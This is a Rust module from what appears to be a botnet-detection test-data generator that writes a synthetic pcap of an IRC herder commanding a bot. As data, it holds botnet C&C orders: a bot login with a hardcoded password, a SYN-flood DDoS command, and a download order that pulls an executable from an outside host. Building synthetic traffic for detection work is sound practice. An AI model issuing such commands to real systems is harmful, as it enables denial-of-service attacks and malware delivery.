//! The herder's side of the field (issue 15, class 5): a capture taken at
//! the herder's IRC client (`vantage/herder.pcap`). The herder of the
//! field's first C&C channel logs in to its first bot by PRIVMSG to the
//! bot's nick (`.login`, `.bot.sysinfo`, `.download`), orders the channel
//! (a scan, a flood, `.ddos.stop`), and the server relays the bot's
//! replies with the bot's `nick!user@address` prefix.
//!
//! Drawn from its own stream (the seed mixed with a constant), after the
//! rest of the field, so nothing else changes.

use crate::orders::{parse_order, scan_reply};
use crate::pcap::PcapFile;
use crate::tcp::Tcp;
use crate::truth::{FileTruth, HerderOrderTruth, HerderSessionTruth, IrcSessionTruth};
use botscope_core::{FlowKey, Proto, Ts};
use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha8Rng;
use std::io;
use std::net::{IpAddr, Ipv4Addr};
use std::path::Path;

/// The capture's path, relative to the field's folder.
pub const HERDER_PCAP: &str = "vantage/herder.pcap";

/// Mixed into the seed so the herder's stream is its own.
const STREAM: u64 = 0x6865_7264_6572_5f35;

/// The herder's account password (`.login NICK PASS`).
const PASSWORD: &str = "s3cr3t";

/// The herder's orders: (PRIVMSG target, order, the bot's replies).
type Plan = Vec<(String, String, Vec<String>)>;

/// Writes the herder's session with the bot of `session` (a C&C session of
/// the field, `herder` the channel's herder nick) and returns its file and
/// truth.
pub fn render_herder(
    seed: u64,
    session: &IrcSessionTruth,
    herder: &str,
    scan_order: &str,
    out: &Path,
) -> io::Result<(FileTruth, HerderSessionTruth)> {
    let mut r = ChaCha8Rng::seed_from_u64(seed ^ STREAM);
    let client = Ipv4Addr::new(
        r.random_range(24..=80),
        r.random(),
        r.random(),
        r.random_range(2..=250),
    );
    let cport = r.random_range(1025..5000u16);
    let (server, port) = (session.server, session.port);
    // During the bot's first session, ten minutes after it joined.
    let connect = session.join.0 + 600_000_000;
    std::fs::create_dir_all(out.join("vantage"))?;
    let mut f = PcapFile::create(&out.join(HERDER_PCAP))?;
    let mut c = Tcp::new(client, cport, server, port, connect, r.random());
    c.handshake(&mut f);
    register(&mut c, &mut f, herder, session);
    let plan = plan_orders(&mut r, herder, session, scan_order);
    let orders = send_orders(&mut c, &mut f, &mut r, herder, session, plan);
    c.t += 5_000_000;
    c.c_send(&mut f, b"QUIT :bye\r\n");
    c.close(&mut f, true);
    let end = c.t;
    let (packets, bytes) = f.finish()?;
    let (bot, bot_ip) = (session.nick.clone(), session.bot);
    let truth = HerderSessionTruth {
        file: HERDER_PCAP.into(),
        client,
        server,
        port,
        nick: herder.to_string(),
        channel: session.channel.clone(),
        bot: bot_ip,
        bot_prefix: format!("{bot}!{bot}@{bot_ip}"),
        bot_nick: bot,
        connect: Ts(connect),
        end: Ts(end),
        flow: FlowKey {
            orig_h: IpAddr::V4(client),
            orig_p: cport,
            resp_h: IpAddr::V4(server),
            resp_p: port,
            proto: Proto::Tcp,
        },
        orders,
    };
    let file = FileTruth {
        path: HERDER_PCAP.into(),
        kind: "pcap: the herder's IRC client (orders sent, replies relayed)".into(),
        packets,
        bytes,
    };
    Ok((file, truth))
}

/// The herder registers and joins the channel (with its key).
fn register(c: &mut Tcp, f: &mut PcapFile, herder: &str, session: &IrcSessionTruth) {
    let srv = format!("irc.{}", session.fqdn);
    let (ch, bot, client) = (&session.channel, &session.nick, c.c);
    c.c_send(
        f,
        format!("NICK {herder}\r\nUSER {herder} 0 0 :{herder}\r\n").as_bytes(),
    );
    c.t += 400_000;
    c.s_send(
        f,
        format!(
            ":{srv} 001 {herder} :Welcome to the Internet Relay Network {herder}\r\n:{srv} 376 {herder} :End of /MOTD command.\r\n"
        )
        .as_bytes(),
    );
    c.t += 1_500_000;
    let join = match &session.key {
        Some(k) => format!("JOIN {ch} {k}\r\n"),
        None => format!("JOIN {ch}\r\n"),
    };
    c.c_send(f, join.as_bytes());
    c.s_send(
        f,
        format!(
            ":{herder}!~{herder}@{client} JOIN :{ch}\r\n:{srv} 353 {herder} @ {ch} :@{herder} {bot}\r\n:{srv} 366 {herder} {ch} :End of /NAMES list.\r\n"
        )
        .as_bytes(),
    );
}

/// A public address in 60–200.x.x.x.
fn some_host(r: &mut ChaCha8Rng) -> Ipv4Addr {
    Ipv4Addr::new(
        r.random_range(60..=200),
        r.random(),
        r.random(),
        r.random_range(2..=250),
    )
}

/// Draws the herder's orders: log in to the bot, ask its system, order
/// the channel a scan and a flood, the bot a download, then stop.
fn plan_orders(
    r: &mut ChaCha8Rng,
    herder: &str,
    session: &IrcSessionTruth,
    scan_order: &str,
) -> Plan {
    let (bot, ch) = (&session.nick, &session.channel);
    let target_ip = some_host(r);
    let secs = r.random_range(60..600u32);
    let web = some_host(r);
    let file: String = (0..5)
        .map(|_| char::from(b'a' + r.random_range(0..26u8)))
        .collect();
    let url = format!("http://{web}/{file}.exe");
    let (command, args) = parse_order(scan_order);
    let scan = scan_reply(&command, &args, session.bot);
    vec![
        (
            bot.clone(),
            format!(".login {herder} {PASSWORD}"),
            vec!["Password accepted.".into()],
        ),
        (
            bot.clone(),
            ".bot.sysinfo".into(),
            vec!["cpu: 2400MHz. ram: 523760KB total, 301228KB free. os: Windows XP (5.1, build 2600).".into()],
        ),
        (ch.clone(), scan_order.to_string(), vec![scan]),
        (
            ch.clone(),
            format!(".ddos.synflood {target_ip} {secs} 50 6667"),
            vec![format!(
                "[DDoS]: Flooding: ({target_ip}:6667) for {secs} seconds."
            )],
        ),
        (
            bot.clone(),
            format!(".download {url} c:\\{file}.exe 1"),
            vec![format!(
                "[DOWNLOAD]: Downloading URL: {url} to: c:\\{file}.exe."
            )],
        ),
        (
            ch.clone(),
            ".ddos.stop".into(),
            vec!["[DDoS]: Stopped flooding.".into()],
        ),
    ]
}

/// Sends each order 3–20 s after the last and relays the bot's replies
/// (to the channel for a channel order, to the herder for a private one).
fn send_orders(
    c: &mut Tcp,
    f: &mut PcapFile,
    r: &mut ChaCha8Rng,
    herder: &str,
    session: &IrcSessionTruth,
    plan: Plan,
) -> Vec<HerderOrderTruth> {
    let (bot, bot_ip, ch) = (&session.nick, session.bot, &session.channel);
    let bot_prefix = format!("{bot}!{bot}@{bot_ip}");
    let mut orders = Vec::new();
    for (to, raw, replies) in plan {
        c.t += r.random_range(3_000_000..20_000_000);
        let ts = c.t;
        c.c_send(f, format!("PRIVMSG {to} :{raw}\r\n").as_bytes());
        let reply_to = if to == *ch { ch.as_str() } else { herder };
        for text in &replies {
            c.t += 1_500_000;
            c.s_send(
                f,
                format!(":{bot_prefix} PRIVMSG {reply_to} :{text}\r\n").as_bytes(),
            );
        }
        let (command, args) = parse_order(&raw);
        orders.push(HerderOrderTruth {
            ts: Ts(ts),
            bot: (to != *ch).then_some(bot_ip),
            bot_nick: (to != *ch).then(|| bot.clone()),
            target: to,
            command,
            args,
            raw,
            replies,
        });
    }
    orders
}
